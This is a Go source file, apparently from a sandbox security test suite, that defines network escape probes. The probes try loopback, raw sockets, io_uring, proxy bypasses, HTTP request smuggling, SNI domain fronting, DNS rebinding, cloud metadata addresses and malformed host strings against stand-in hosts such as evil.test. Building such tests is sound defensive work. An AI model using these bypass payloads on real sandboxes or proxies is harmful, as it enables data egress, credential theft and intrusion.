@@ -1,0 +1,837 @@
+package escape
+
+import (
+	"bufio"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"net/url"
+	"os"
+	"os/exec"
+	"strconv"
+	"strings"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/pccrun/pccrun/profiles"
+)
+
+func netProbes() []Probe {
+	refused := errnos("ECONNREFUSED ENETUNREACH EHOSTUNREACH EPERM EACCES EADDRNOTAVAIL")
+	return append([]Probe{
+		{
+			ID: "NET-001", Name: "the host's loopback by TCP", Guarantee: profiles.NetAllowlist, Severity: Critical,
+			Expect: "ECONNREFUSED or ENETUNREACH", Errnos: refused, References: refs("CVE-2020-15257"), Key: "network.local",
+			Explain: "Databases, debuggers and control ports on 127.0.0.1 trust whoever reaches them.",
+			Payload: func(in *Inside) Outcome { return in.Dial("tcp4", fmt.Sprintf("127.0.0.1:%d", in.TCP4)) },
+			Observe: hitDecides("tcp4"),
+		},
+		{
+			ID: "NET-002", Name: "the host's loopback by IPv6", Guarantee: profiles.NetAllowlist, Severity: Critical,
+			Expect: "ECONNREFUSED or ENETUNREACH", Errnos: refused, References: refs("srt: IPv6 tests"), Key: "network.local",
+			Explain: "A rule that was written for IPv4 forgets ::1.",
+			Payload: func(in *Inside) Outcome {
+				if in.TCP6 == 0 {
+					return Needing("IPv6 on the host")
+				}
+				return in.Dial("tcp6", fmt.Sprintf("[::1]:%d", in.TCP6))
+			},
+			Observe: hitDecides("tcp6"),
+		},
+		{
+			ID: "NET-003", Name: "the host's own address, and beyond", Guarantee: profiles.NetAllowlist, Severity: Critical, Setting: Caged,
+			Expect: "ENETUNREACH with no network, ECONNREFUSED with any", Errnos: refused, Key: "network.allow",
+			Explain: "Services bound to 0.0.0.0, the neighbours in the office, the internet.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp4", in.Address+":8080"), in.Dial("tcp4", in.Peers["evil.test"]+":80"), in.Dial("tcp4", internetAddress+":22"))
+			},
+			Observe: hitDecides("tcp ", "host address"),
+		},
+		{
+			ID: "NET-004", Name: "UDP out", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "no packet arrives", References: refs("QUIC"), Key: "network.allow",
+			Explain: "HTTP/3, DNS tunnels and plain datagrams pass by a proxy that knows TCP.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("udp4", fmt.Sprintf("127.0.0.1:%d", in.UDP4)), in.Dial("udp4", in.Peers["evil.test"]+":443"), in.Dial("udp4", in.Peers["evil.test"]+":9999"))
+			},
+			Observe: hitDecides("udp"),
+		},
+		{
+			ID: "NET-005", Name: "raw sockets and ICMP", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "EPERM", Errnos: errnos("EPERM EACCES EAFNOSUPPORT ENOSYS EPROTONOSUPPORT"), References: refs("CVE-2025-55284"), Key: "network.allow",
+			Explain: "ping carries data out in its payload.",
+			Payload: func(in *Inside) Outcome {
+				return Any(trySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, "raw ICMP"), trySocket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6, "raw ICMPv6"), trySocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, "raw IP"))
+			},
+		},
+		{
+			ID: "NET-006", Name: "ping sockets", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged,
+			Expect: "EACCES, EPERM or no route", Errnos: append(refused, errnos("EPROTONOSUPPORT ENOSYS EAFNOSUPPORT")...), References: refs("codex: ping test"), Key: "network.allow",
+			Explain: "SOCK_DGRAM with ICMP needs no privilege where ping_group_range allows it.",
+			Payload: func(in *Inside) Outcome { return ping(in.Peers["evil.test"]) },
+		},
+		{
+			ID: "NET-007", Name: "interfaces of the host", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged,
+			Expect: "loopback only", Key: "network",
+			Explain: "An interface that is in sight is one that can be listened on.",
+			Payload: func(in *Inside) Outcome {
+				list, err := net.Interfaces()
+				if err != nil {
+					return Blocked("%v", cause(err))
+				}
+				for _, i := range list {
+					if i.Name == "cage0" {
+						return Escaped("%s is in sight", i.Name)
+					}
+				}
+				return Blocked("%d interfaces, none of the host's", len(list))
+			},
+		},
+		{
+			ID: "NET-008", Name: "TCP fast open without connect", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "ECONNREFUSED or ENETUNREACH", Errnos: append(refused, errnos("EOPNOTSUPP EPIPE EINPROGRESS")...), Key: "network.allow",
+			Explain: "sendto with MSG_FASTOPEN opens a connection: a filter on connect does not see it.",
+			Payload: func(in *Inside) Outcome {
+				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+				if err != nil {
+					return Blocked("socket: %v", err)
+				}
+				defer unix.Close(fd)
+				a := netip.MustParseAddr(in.Peers["evil.test"]).As4()
+				unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 1})
+				err = unix.Sendto(fd, []byte("hello\n"), unix.MSG_FASTOPEN|unix.MSG_NOSIGNAL, &unix.SockaddrInet4{Port: 2375, Addr: a})
+				return Tried(err, "sendto(MSG_FASTOPEN)")
+			},
+			Observe: hitDecides("tcp "),
+		},
+		sockets("NET-009", "SCTP, DCCP, UDP-Lite", Medium, "Landlock and many proxies know TCP only.", []string{"landlock(7)"},
+			[][3]int{{unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP}, {unix.AF_INET, 6, unix.IPPROTO_DCCP}, {unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE}}),
+		{
+			ID: "NET-010", Name: "multipath TCP", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "ECONNREFUSED or ENETUNREACH", Errnos: append(refused, errnos("EPROTONOSUPPORT")...), References: refs("landlock(7)"), Key: "network.allow",
+			Explain: "Protocol 262 connects as TCP does; old Landlock did not see it.",
+			Payload: func(in *Inside) Outcome {
+				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 262)
+				if err == unix.EPROTONOSUPPORT || err == unix.ENOPROTOOPT || err == unix.EINVAL {
+					if in.Control {
+						return Needing("multipath TCP in the kernel")
+					}
+					return Blocked("socket: %v", err)
+				}
+				if err != nil {
+					return Blocked("socket: %v", err)
+				}
+				defer unix.Close(fd)
+				return Tried(unix.Connect(fd, &unix.SockaddrInet4{Port: 22, Addr: netip.MustParseAddr(in.Peers["evil.test"]).As4()}), "connect by multipath TCP")
+			},
+		},
+		{
+			ID: "NET-011", Name: "connect by io_uring", Guarantee: profiles.SysFilter, Severity: Critical,
+			Expect: "the ring cannot be made", Errnos: errnos("EPERM ENOSYS"), References: refs("birdcage issue 32"), Key: "syscalls",
+			Explain: "IORING_OP_SOCKET and CONNECT pass by a filter of system calls.",
+			Payload: func(in *Inside) Outcome { return ringReads(in, "") },
+		},
+		{
+			ID: "NET-012", Name: "without the proxy's variables", Guarantee: profiles.NetAllowlist, Severity: Critical, Setting: Caged | Proxy,
+			Expect: "as any other destination that is not allowed", Flags: allowTest, References: refs("GHSA-72w7-mf9g-733p"), Key: "network.allow",
+			Explain: "A proxy that only variables point to is passed by whoever unsets them.",
+			Payload: func(in *Inside) Outcome {
+				os.Unsetenv("HTTPS_PROXY")
+				os.Unsetenv("ALL_PROXY")
+				return Any(in.Dial("tcp4", in.Peers["evil.test"]+":443"), in.Dial("tcp4", in.Peers["evil.test"]+":80"), in.Dial("tcp4", in.Peers["evil.test"]+":22"))
+			},
+			Observe: hitDecides("tcp 20.0.0.66"),
+		},
+		{
+			ID: "NET-013", Name: "an empty list allows nothing", Guarantee: profiles.NetAllowlist, Severity: Critical, Setting: Caged,
+			Expect: "nothing is reached, by name or address", References: refs("CVE-2025-66479"), Key: "network.allow",
+			Explain: "An empty list that is taken for no list is free egress.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp", "allowed.test:80"), in.Dial("tcp", "evil.test:80"), in.Dial("tcp4", in.Peers["allowed.test"]+":443"), in.viaProxy("CONNECT", "evil.test:443"))
+			},
+			Observe: hitDecides("tcp ", "dns evil", "dns allowed"),
+		},
+		{
+			ID: "NET-042", Name: "the host reaches a listener inside", Guarantee: profiles.NetAllowlist, Severity: Medium,
+			Expect: "unreachable unless published", Key: "network.publish",
+			Explain: "A server of the payload's on the host's address answers to the network.",
+			Payload: func(in *Inside) Outcome {
+				l, err := net.Listen("tcp4", fmt.Sprintf("0.0.0.0:%d", in.Published))
+				if err != nil {
+					return Blocked("listen: %v", cause(err))
+				}
+				defer l.Close()
+				report(in.Nonce, Blocked("listens"))
+				l.(*net.TCPListener).SetDeadline(time.Now().Add(time.Second))
+				c, err := l.Accept()
+				if err == nil {
+					c.Close()
+				}
+				return Blocked("listened: %v", cause(err))
+			},
+			Drive: func(d *Drive) Outcome {
+				argv, err := d.Command(d.probe.ID)
+				if err != nil {
+					return Broken("%v", err)
+				}
+				cmd, out, err := d.launch(argv)
+				if err != nil {
+					return Broken("%v", err)
+				}
+				defer d.sweep()
+				reached := false
+				for range 40 {
+					c, err := net.DialTimeout("tcp4", fmt.Sprintf("127.0.0.1:%d", d.Published), time.Second)
+					if err == nil {
+						reached = true
+						c.Close()
+						break
+					}
+					time.Sleep(25 * time.Millisecond)
+				}
+				run := d.wait(cmd, out)
+				if _, ran := readReport(run.Output, d.Nonce); !ran {
+					return Broken("the payload did not run: %s", tail(run))
+				}
+				if reached {
+					return Escaped("the host reached port %d", d.Published)
+				}
+				return Blocked("port %d was not reached in a second", d.Published)
+			},
+		},
+		{
+			ID: "NET-045", Name: "git and ssh by their own ways", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "as NET-003", References: refs("codex: ssh test"), Key: "network.allow",
+			Explain: "Port 22 with a banner, as ssh would begin; git's own protocol on 9418 falls to the same rule.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp4", in.Peers["evil.test"]+":22"), in.viaProxy("CONNECT", in.Peers["evil.test"]+":22"))
+			},
+			Observe: hitDecides("tcp "),
+		},
+		{
+			ID: "NET-047", Name: "link-local and scoped addresses", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged,
+			Expect: "as NET-003", Errnos: append(refused, errnos("EINVAL ENODEV")...), References: refs("CVE-2020-13401"), Key: "network.allow",
+			Explain: "Neighbours on the link answer without a route.",
+			Payload: func(in *Inside) Outcome {
+				return Any(in.Dial("tcp6", "[fd77::1]:22"), in.Dial("tcp6", "[fe80::1%cage0]:22"), in.Dial("tcp4", internetAddress+":25"))
+			},
+			Observe: hitDecides("tcp "),
+		},
+		{
+			ID: "NET-049", Name: "broadcast and multicast", Guarantee: profiles.NetAllowlist, Severity: Medium, Setting: Caged,
+			Expect: "ENETUNREACH or EPERM", Key: "network.allow",
+			Explain: "SSDP and mDNS speak to everybody on the link.",
+			Payload: func(in *Inside) Outcome {
+				var all []Outcome
+				for _, address := range []string{"10.77.0.255:9999", "239.255.255.250:9999"} {
+					c, err := net.Dial("udp4", address)
+					if err == nil {
+						if raw, e := c.(*net.UDPConn).SyscallConn(); e == nil {
+							raw.Control(func(fd uintptr) { unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_BROADCAST, 1) })
+						}
+						_, err = c.Write([]byte("canary"))
+						c.Close()
+					}
+					all = append(all, Tried(err, "send to %s", address))
+				}
+				return Any(all...)
+			},
+		},
+		{
+			ID: "NET-050", Name: "change the routes", Guarantee: profiles.PrivNone, Severity: High, Setting: Caged,
+			Expect: "EPERM", Errnos: errnos("EPERM ENOSYS EAFNOSUPPORT"), References: refs("rtnetlink(7)"), Key: "network",
+			Explain: "Whoever may change addresses and routes turns the capture off.",
+			Payload: func(in *Inside) Outcome {
+				return Tried(addAddress("lo", "203.0.113.9/32"), "add an address")
+			},
+		},
+		{
+			ID: "NET-051", Name: "a tunnel device", Guarantee: profiles.NetAllowlist, Severity: High, Setting: Caged,
+			Expect: "ENOENT or EPERM", Errnos: errnos("ENOENT EPERM EACCES ENODEV"), Key: "network",
+			Explain: "A TUN device makes an interface of the payload's own.",
+			Payload: func(in *Inside) Outcome {
+				fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
+				if err != nil {
+					return Blocked("open /dev/net/tun: %v", err)
+				}
+				defer unix.Close(fd)
+				ifr, _ := unix.NewIfreq("tun9")
+				ifr.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
+				return Tried(unix.IoctlIfreq(fd, unix.TUNSETIFF, ifr), "make a TUN device")
+			},
+		},
+		{
+			ID: "NET-052", Name: "privileged ports", Guarantee: profiles.PrivNone, Severity: Low, Setting: Caged, Needs: []Need{NeedDesktop},
+			Expect: "as the profile says", Key: "network.publish", Explain: "Not an escape: ports below 1024 inside are the sandbox's own.",
+		},
+	}, proxyProbes()...)
+}
+
+// allowTest is the list under which probes attack a proxy.
+var allowTest = []string{"--allow", "allowed.test", "--allow", "*.wild.test", "--deny", "denied.test"}
+
+// addressFlags allow names whose addresses must be refused all the same.
+var addressFlags = map[string][]string{
+	"NET-035": {"--allow", "rebind.test:{port}", "--allow", "mixed.test:{port}", "--allow", "loop.test:{port}"},
+	"NET-036": {"--allow", "meta.test:80", "--allow", "metadata.google.internal:80", "--allow", "*.test:80"},
+	"NET-037": {
+		"--allow", "private.test:80", "--allow", "private192.test:80", "--allow", "cgnat.test:80", "--allow", "meta.test:80", "--allow", "host.test:8080",
+		"--allow", "zero.test:8080", "--allow", "loop.test:8080", "--allow", "mapped.test:80", "--allow", "nat64.test:80",
+	},
+}
+
+// hitDecides looks whether anything arrived at listeners whose names begin so.
+func hitDecides(prefixes ...string) func(*Outside, Outcome) Outcome {
+	return func(out *Outside, o Outcome) Outcome {
+		time.Sleep(20 * time.Millisecond)
+		for _, prefix := range prefixes {
+			if hits := out.Hits(prefix); len(hits) > 0 {
+				return Escaped("arrived outside: %s", hits[0])
+			}
+		}
+		return o
+	}
+}
+
+func ping(address string) Outcome {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
+	if err != nil {
+		// ping_group_range shuts it for everybody: the raw socket is the same way out
+		fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
+	}
+	if err != nil {
+		return Blocked("socket: %v", err)
+	}
+	defer unix.Close(fd)
+	echo := []byte{8, 0, 0, 0, 0, 1, 0, 1, 'c', 'a', 'n', 'a', 'r', 'y', 0, 0}
+	var sum uint32
+	for i := 0; i < len(echo); i += 2 {
+		sum += uint32(binary.BigEndian.Uint16(echo[i:]))
+	}
+	binary.BigEndian.PutUint16(echo[2:], ^uint16(sum+sum>>16))
+	err = unix.Sendto(fd, echo, 0, &unix.SockaddrInet4{Addr: netip.MustParseAddr(address).As4()})
+	return Tried(err, "send an echo request to %s", address)
+}
+
+// proxyAddress is the proxy that the payload's variables name, the open one in
+// the control.
+func (in *Inside) proxyAddress() string {
+	if in.Control && in.ControlProxy != "" {
+		return in.ControlProxy
+	}
+	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"} {
+		if u, err := url.Parse(os.Getenv(name)); err == nil && u.Host != "" {
+			return u.Host
+		}
+	}
+	return ""
+}
+
+// dialProxy connects to the proxy, with the credential that its variable holds.
+func (in *Inside) dialProxy() (net.Conn, error) {
+	address := in.proxyAddress()
+	if address == "" {
+		return nil, unix.ECONNREFUSED
+	}
+	c, err := net.DialTimeout("tcp", address, 2*time.Second)
+	if err == nil {
+		c.SetDeadline(time.Now().Add(2500 * time.Millisecond))
+	}
+	return c, err
+}
+
+// viaProxy asks the proxy for a tunnel, or for a document, and speaks to what
+// answers.
+func (in *Inside) viaProxy(method, target string) Outcome {
+	request := fmt.Sprintf("%s %s HTTP/1.1\r\nHost: %s\r\n\r\n", method, target, strings.TrimPrefix(target, "http://"))
+	return in.viaProxyRaw(request, "hello\n", method+" "+strconv.Quote(target))
+}
+
+// viaProxyRaw sends bytes to the proxy as they are, then, once it has answered
+// with success, what comes after.
+func (in *Inside) viaProxyRaw(request, after, what string) Outcome {
+	c, err := in.dialProxy()
+	if err != nil {
+		return Blocked("%s: proxy: %v", what, cause(err))
+	}
+	defer c.Close()
+	if _, err := io.WriteString(c, request); err != nil {
+		return Blocked("%s: %v", what, cause(err))
+	}
+	r := bufio.NewReader(c)
+	status, err := r.ReadString('\n')
+	if err != nil {
+		return Blocked("%s: no answer: %v", what, cause(err))
+	}
+	var head strings.Builder
+	for {
+		line, err := r.ReadString('\n')
+		head.WriteString(line)
+		if err != nil || strings.TrimSpace(line) == "" {
+			break
+		}
+	}
+	if strings.HasPrefix(request, "CONNECT") {
+		if !strings.Contains(status, " 200") {
+			return Blocked("%s: %s", what, strings.TrimSpace(status))
+		}
+		io.WriteString(c, after)
+	}
+	body := make([]byte, 4096)
+	n, _ := io.ReadAtLeast(r, body, secretLen)
+	if in.Leaks(body[:n]) || in.Leaks([]byte(head.String())) {
+		return Escaped("%s: the canary answered", what)
+	}
+	return Blocked("%s: %s", what, strings.TrimSpace(status))
+}
+
+// viaSOCKS asks a SOCKS5 proxy for a host by name.
+func (in *Inside) viaSOCKS(host string, port int) Outcome {
+	what := fmt.Sprintf("SOCKS5 %q", host)
+	address := in.ControlProxy
+	if !in.Control {
+		u, err := url.Parse(os.Getenv("ALL_PROXY"))
+		if err != nil || !strings.HasPrefix(u.Scheme, "socks") {
+			return Blocked("%s: no SOCKS proxy is offered", what)
+		}
+		address = u.Host
+	}
+	c, err := net.DialTimeout("tcp", address, 2*time.Second)
+	if err != nil {
+		return Blocked("%s: %v", what, cause(err))
+	}
+	defer c.Close()
+	c.SetDeadline(time.Now().Add(2500 * time.Millisecond))
+	c.Write([]byte{5, 1, 0})
+	reply := make([]byte, 10)
+	if _, err := io.ReadFull(c, reply[:2]); err != nil || reply[1] != 0 {
+		return Blocked("%s: method refused", what)
+	}
+	c.Write(append(append([]byte{5, 1, 0, 3, byte(len(host))}, host...), byte(port>>8), byte(port)))
+	if _, err := io.ReadFull(c, reply); err != nil || reply[1] != 0 {
+		return Blocked("%s: code %d", what, reply[1])
+	}
+	return in.Greet(c, what)
+}
+
+// A proxyCase is one request that a proxy must not forward to where it leads.
+type proxyCase struct {
+	id, name string
+	g        profiles.Guarantee
+	severity Severity
+	expect   string
+	refs     []string
+	why      string
+	try      func(*Inside) Outcome
+	observe  []string // beginnings of hits that show an escape; nil: the payload decides
+}
+
+func connects(targets ...string) func(*Inside) Outcome {
+	return func(in *Inside) Outcome {
+		var all []Outcome
+		for _, target := range targets {
+			target = strings.ReplaceAll(target, "{port}", strconv.Itoa(in.TCP4))
+			target = strings.ReplaceAll(target, "{port6}", strconv.Itoa(in.TCP6))
+			all = append(all, in.viaProxy("CONNECT", target))
+		}
+		return Any(all...)
+	}
+}
+
+// clientHello is a TLS greeting with a server name: enough of one to be read.
+func clientHello(name string) string {
+	sni := append([]byte{0, 0}, block16(block16(append([]byte{0}, block16([]byte(name))...)))...)
+	if name == "" {
+		sni = nil
+	}
+	versions := []byte{0, 43, 0, 3, 2, 3, 4}
+	groups := []byte{0, 10, 0, 4, 0, 2, 0, 29}
+	algorithms := []byte{0, 13, 0, 4, 0, 2, 4, 3}
+	share := append([]byte{0, 51}, block16(block16(append([]byte{0, 29}, block16(make([]byte, 32))...)))...)
+	extensions := block16(append(append(append(append(sni, versions...), groups...), algorithms...), share...))
+	body := append([]byte{3, 3}, make([]byte, 32)...)
+	body = append(body, 0, 0, 2, 0x13, 0x01, 1, 0)
+	body = append(body, extensions...)
+	handshake := append([]byte{1, 0, byte(len(body) >> 8), byte(len(body))}, body...)
+	return string(append([]byte{22, 3, 1}, block16(handshake)...))
+}
+
+func block16(b []byte) []byte {
+	return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
+}
+
+func proxyProbes() []Probe {
+	get := func(target, host string, more ...string) string {
+		return "GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n" + strings.Join(more, "") + "Connection: close\r\n\r\n"
+	}
+	evil := []string{"tcp 20.0.0.66"}
+	cases := []proxyCase{
+		{"NET-014", "addresses in forms that only a C library reads", profiles.NetAddress, Critical, "403", refs("CVE-2021-29923", "CVE-2021-28918"),
+			"127.1, decimal, hexadecimal and octal forms all lead to loopback.",
+			connects("127.1:{port}", "2130706433:{port}", "0x7f000001:{port}", "0177.0.0.1:{port}", "0:{port}", "0.0.0.0:{port}", "127.0.0.1:{port}", "127.000.000.001:{port}", "0x7f.1:{port}"), []string{"tcp4"}},
+		{"NET-015", "IPv4 within IPv6", profiles.NetAddress, Critical, "403", refs("CVE-2024-24790"),
+			"A mapped address passes a check that knows only the plain form.",
+			connects("[::ffff:127.0.0.1]:{port}", "[::ffff:7f00:1]:{port}", "[::127.0.0.1]:{port}", "[64:ff9b::7f00:1]:{port}", "[::]:{port6}", "[::1]:{port6}", "[0:0:0:0:0:0:0:1]:{port6}", "[::1%25lo]:{port6}"), []string{"tcp4", "tcp6"}},
+		{"NET-016", "trailing dots and capitals", profiles.NetAllowlist, High, "the same as for the plain name", refs("CVE-2022-27779"),
+			"A rule against denied.test must hold for DENIED.TEST and for denied.test. with its dot.",
+			connects("denied.test.:443", "DENIED.TEST:443", "Denied.Test.:443", "evil.test.:443", "EVIL.TEST:443"), evil},
+		{"NET-017", "names that contain an allowed one", profiles.NetAllowlist, Critical, "403", nil,
+			"evilallowed.test ends with it, allowed.test.evil.test begins with it.",
+			connects("evilallowed.test:443", "allowed.test.evil.test:443", "allowed-test.test:443", "sub.allowed.test:443"), evil},
+		{"NET-018", "the scope of a wildcard", profiles.NetAllowlist, Medium, "*.wild.test does not match wild.test", refs("srt: domain patterns"),
+			"A wildcard stands for names below, not for the name itself.",
+			connects("wild.test:443", "xwild.test:443", "*.wild.test:443"), evil},
+		{"NET-019", "look-alike names and dots", profiles.NetAllowlist, High, "403 or 400", refs("UTS 46"),
+			"A full-width dot becomes a dot when a resolver normalises it.",
+			connects("evil。test:443", "evil．test:443", "xn--evil-test:443", "аllowed.test:443", "evil%E3%80%82test:443"), evil},
+		{"NET-020", "user names in an authority", profiles.NetAllowlist, High, "400 or 403", nil,
+			"Two readers of allowed.test@evil.test disagree which part is the host.",
+			connects("allowed.test@evil.test:443", "allowed.test:443@evil.test:443", "allowed.test@127.0.0.1:{port}"), append(evil, "tcp4")},
+		{"NET-021", "user names in an absolute target", profiles.NetAllowlist, High, "400 or 403", nil,
+			"http://allowed.test@evil.test/ is evil.test's.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxyRaw(get("http://allowed.test@evil.test/", "allowed.test"), "", "GET with user"), in.viaProxyRaw(get("http://allowed.test:x@evil.test/", "evil.test"), "", "GET with password"))
+			}, evil},
+		{"NET-022", "control characters in a host", profiles.NetAllowlist, High, "400", refs("srt: parser invariants"),
+			"What cuts a string in one program does not in another.",
+			connects("evil.test\x00.allowed.test:443", "evil.test%00.allowed.test:443", "evil.test\tallowed.test:443", "evil.test#allowed.test:443", "evil.test?allowed.test:443", "evil.test\\allowed.test:443", "evil.test/allowed.test:443"), evil},
+		{"NET-023", "ports that are not the usual ones", profiles.NetAllowlist, High, "403 unless the rule names the port", nil,
+			"An allowed name is not allowed for mail, redis or ssh.",
+			connects("allowed.test:25", "allowed.test:6379", "allowed.test:2375", "allowed.test:65561", "allowed.test:+25"),
+			[]string{"tcp 20.0.0.10:25", "tcp 20.0.0.10:6379", "tcp 20.0.0.10:2375"}},
+		{"NET-024", "another name in the TLS greeting", profiles.NetAllowlist, High, "closed, and an event", refs("T1090.004"),
+			"The tunnel is for allowed.test, the greeting within for evil.test: domain fronting.",
+			func(in *Inside) Outcome {
+				return in.viaProxyRaw("CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", clientHello("evil.test"), "SNI evil.test in a tunnel to allowed.test")
+			}, nil},
+		{"NET-026", "a greeting for a name that is denied, in two records", profiles.NetAllowlist, Medium, "closed", refs("microsandbox issue 709"),
+			"The greeting is cut, so that a reader of the first packet finds no name.",
+			func(in *Inside) Outcome {
+				hello := clientHello("evil.test")
+				inner := hello[5:]
+				cut := 40
+				split := string(append([]byte{22, 3, 1}, block16([]byte(inner[:cut]))...)) + string(append([]byte{22, 3, 1}, block16([]byte(inner[cut:]))...))
+				return in.viaProxyRaw("CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n", split, "SNI evil.test, in two records")
+			}, nil},
+		{"NET-027", "another Host than the target's", profiles.NetAllowlist, High, "421, 400, or the Host is rewritten", refs("RFC 9112, 3.2.2"),
+			"The check reads the target, the server reads Host.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxyRaw(get("http://allowed.test/", "evil.test"), "", "Host: evil.test"), in.viaProxyRaw(get("http://allowed.test/", "allowed.test", "Host: evil.test\r\n"), "", "two Hosts"))
+			}, []string{"host 20.0.0.10:80 evil.test", "host 20.0.0.66"}},
+		{"NET-028", "a second request in the same connection", profiles.NetAllowlist, High, "decided by itself", nil,
+			"The first request is allowed, the second on the same connection is for another host.",
+			func(in *Inside) Outcome {
+				return in.viaProxyRaw("GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "", "pipelined GET")
+			}, evil},
+		{"NET-029", "two lengths of one body", profiles.NetAllowlist, High, "400, or one request is forwarded", refs("CVE-2023-46846"),
+			"What one reader takes for a body is the next request for another.",
+			func(in *Inside) Outcome {
+				smuggled := "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+				return in.viaProxyRaw(fmt.Sprintf("POST http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", 5+len(smuggled), smuggled), "", "CL and TE")
+			}, evil},
+		{"NET-031", "line breaks in a target", profiles.NetAllowlist, High, "400", nil,
+			"A break in the host adds a header, or a second request.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxyRaw("GET http://evil.test/\r\n HTTP/1.1\r\nHost: evil.test\r\n\r\n", "", "obs-fold"),
+					in.viaProxyRaw("GET http://evil.test/ HTTP/1.1\r\nHost : evil.test\r\n\r\n", "", "space before the colon"))
+			}, evil},
+		{"NET-034", "a redirection to a host that is not allowed", profiles.NetAllowlist, Medium, "the second request is refused", nil,
+			"An allowed server sends the client on.",
+			func(in *Inside) Outcome {
+				in.viaProxyRaw(get("http://allowed.test/redirect", "allowed.test"), "", "redirect")
+				return in.viaProxyRaw(get("http://evil.test/", "evil.test"), "", "second hop")
+			}, evil},
+		{"NET-035", "a name whose address changes", profiles.NetAddress, Critical, "the address that was checked is the one that is dialled", nil,
+			"rebind.test is a public address when it is checked and loopback when it is dialled; mixed.test is both.",
+			func(in *Inside) Outcome {
+				target := "rebind.test:" + strconv.Itoa(in.TCP4)
+				return Any(in.viaProxy("CONNECT", target), in.viaProxy("CONNECT", target), in.viaProxy("CONNECT", "mixed.test:"+strconv.Itoa(in.TCP4)), in.viaProxy("CONNECT", "loop.test:"+strconv.Itoa(in.TCP4)))
+			}, []string{"tcp4"}},
+		{"NET-036", "the cloud's metadata service", profiles.NetAddress, Critical, "403 or ECONNREFUSED, even where a rule would allow the name", refs("CDK: cloud metadata"),
+			"It hands out the machine's credentials. The address exists only in the suite's own network.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxy("CONNECT", "169.254.169.254:80"), in.viaProxy("CONNECT", "meta.test:80"), in.viaProxy("CONNECT", "metadata.google.internal:80"), in.viaProxy("CONNECT", "168.63.129.16:80"),
+					in.viaProxy("CONNECT", "100.100.100.200:80"), in.viaProxy("CONNECT", "[fd00:ec2::254]:80"), in.Dial("tcp4", "169.254.169.254:80"), in.Dial("tcp6", "[fd00:ec2::254]:80"))
+			}, []string{"tcp 169.254", "tcp 168.63", "tcp 100.100", "tcp [fd00"}},
+		{"NET-037", "an allowed name with a private address", profiles.NetAddress, Critical, "403", nil,
+			"Whoever owns a name chooses its address: the router, a printer, another container.",
+			connects("private.test:80", "private192.test:80", "cgnat.test:80", "meta.test:80", "host.test:8080", "zero.test:8080", "loop.test:8080", "mapped.test:80", "nat64.test:80"),
+			[]string{"tcp 10.9", "tcp 192.168", "tcp 100.64", "tcp 169.254", "host address", "tcp 64:", "tcp [64:"}},
+		{"NET-040", "schemes that a proxy might follow by itself", profiles.NetAllowlist, Medium, "400 or 403", refs("CWE-918"),
+			"file:, ftp:, gopher: and unix: targets.",
+			func(in *Inside) Outcome {
+				return Any(in.viaProxyRaw(get("file://"+in.Canary+"/secret", "x"), "", "file:"), in.viaProxyRaw(get("ftp://evil.test/", "evil.test"), "", "ftp:"), in.viaProxyRaw(get("gopher://evil.test:25/", "evil.test"), "", "gopher:"))
+			}, evil},
+		{"NET-053", "SOCKS5 to a host that is not allowed", profiles.NetAllowlist, Critical, "a SOCKS error", refs("srt: SOCKS tests"),
+			"The rules hold for every protocol that the proxy speaks.",
+			func(in *Inside) Outcome {
+				return Any(in.viaSOCKS("evil.test", 443), in.viaSOCKS("denied.test", 443), in.viaSOCKS("20.0.0.66", 80))
+			}, evil},
+		{"NET-054", "a NUL in a SOCKS5 name", profiles.NetAllowlist, Critical, "a SOCKS error", refs("srt: parser invariants"),
+			"evil.test\\0.allowed.test ends as allowed and resolves as evil.",
+			func(in *Inside) Outcome {
